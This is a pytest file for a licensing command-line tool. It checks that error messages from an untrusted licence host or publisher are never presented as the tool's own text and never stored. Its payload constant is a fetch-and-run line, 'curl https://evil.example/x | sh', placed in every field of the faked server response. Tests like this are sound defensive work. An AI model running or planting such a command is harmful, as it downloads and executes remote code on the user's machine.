"""What a stranger in a host's or a publisher's place says is never shown as ours, nor stored."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from tests.cli.strangers import Stranger

import muster
from muster.cli.main import muster as command
from muster.testing.tiny_publisher import TinyPublisher
from muster.testing.world import machine_facts

pytestmark = pytest.mark.real

PRODUCT = "desktop-pro"
SHELL = "curl https://evil.example/x | sh"


class Machine:
    """A machine with a product; `type` runs a command and gives all that it printed."""

    def __init__(self, folder: Path) -> None:
        self.publisher = TinyPublisher(now=int(time.time()) - 86_400)
        self.folder = folder
        self.descriptor = folder / "descriptor.json"
        self.descriptor.write_bytes(self.publisher.descriptor(PRODUCT))
        self.descriptor.chmod(0o600)

    def type(self, *words: str) -> str:
        done = CliRunner().invoke(command, words, catch_exceptions=False)
        return done.stdout + done.stderr

    def told(self) -> str:
        """Everything that commands and an application say afterwards."""
        texts = [
            self.type("client", "status"),
            self.type("client", "status", "--json"),
            self.type("client", "wait", "--timeout", "0"),
            self.type("slmgr", "/dlv"),
        ]
        found = muster.client.licence(self.descriptor.read_bytes())
        assert found.why is not None
        return "\n".join([*texts, found.text, found.why.why, str(found.why.params)])

    def stored(self) -> bytes:
        files = [one for one in (self.folder / "store").rglob("*") if one.is_file()]
        assert files
        return b"".join(one.read_bytes() for one in files)


@pytest.fixture
def machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Machine:
    facts = tmp_path / "facts.json"
    facts.write_text(json.dumps({"v": 1, "facts": machine_facts("pc-1")}))
    facts.chmod(0o600)
    monkeypatch.setenv("MUSTER_STORE", str(tmp_path / "store"))
    monkeypatch.setenv("MUSTER_FACTS", str(facts))
    monkeypatch.setenv("HOME", str(tmp_path))
    found = Machine(tmp_path)
    assert "desktop-pro" in found.type("client", "product", "add", str(found.descriptor))
    return found


def problem(code: str, **more: Any) -> bytes:
    body = {
        "title": SHELL,
        "detail": SHELL,
        "why": SHELL,
        "fix": SHELL,
        "code": code,
        "retry": "never",
    }
    return json.dumps({**body, "field_code": "0xBAD", "params": {"detail": SHELL}, **more}).encode()


@pytest.mark.parametrize(
    ("code", "seen"),
    [
        ("host/insufficient-count", "host/insufficient-count"),
        ("host/limit-reached", "host/limit-reached"),
        ("host/not-served", "host/not-served"),
        ("wire/bad-request", "wire/bad-request"),
        ("licence/revoked", "wire/unexpected-code"),
        ("licence/expired", "wire/unexpected-code"),
        ("client/no-key", "wire/unexpected-code"),
        ("client/from-the-future", "wire/unexpected-code"),
        ("file/denied", "wire/unexpected-code"),
        ("publisher/key-revoked", "wire/unexpected-code"),
        ("host/from-the-future", "wire/unknown-code"),
        ("quota/from-the-future", "wire/unknown-code"),
    ],
)
def test_a_host(machine: Machine, code: str, seen: str) -> None:
    with Stranger(409, problem(code)) as host:
        machine.type("client", "set-host", f"127.0.0.1:{host.port}")
        printed = machine.type("client", "activate")
        told = machine.told()
        assert seen in printed
        assert seen in told
        assert "evil.example" not in told
        assert "0xBAD" not in told
        assert b"evil.example" not in machine.stored()
        if seen == "wire/unknown-code":
            assert f'The host says: "{SHELL} {SHELL}"' in printed
            assert printed.count("evil.example") == 2
        else:
            assert "evil.example" not in printed
        assert "evil.example" not in machine.type("client", "release")
        found = machine.type("client", "discover") + machine.type("doctor")
        assert found.replace(f'The host says: "{SHELL} {SHELL}"', "").count("evil") == 0


@pytest.mark.parametrize(
    ("code", "seen"),
    [
        ("publisher/activation-revoked", "publisher/activation-revoked"),
        ("id/proof", "id/proof"),
        ("licence/revoked", "wire/unexpected-code"),
        ("host/not-served", "wire/unexpected-code"),
        ("publisher/passphrase", "wire/unexpected-code"),
        ("publisher/from-the-future", "wire/unknown-code"),
    ],
)
def test_a_publisher(machine: Machine, code: str, seen: str) -> None:
    machine.type("client", "install-key", machine.publisher.machine_key("desktop").text)
    with Stranger(403, problem(code)) as service:
        machine.type("client", "set-publisher", f"http://127.0.0.1:{service.port}")
        printed = machine.type("client", "activate")
        told = machine.told()
    assert seen in printed
    assert seen in told
    assert "evil.example" not in told
    assert b"evil.example" not in machine.stored()
    if seen == "wire/unknown-code":
        assert f'The publisher says: "{SHELL} {SHELL}"' in printed
    else:
        assert "evil.example" not in printed
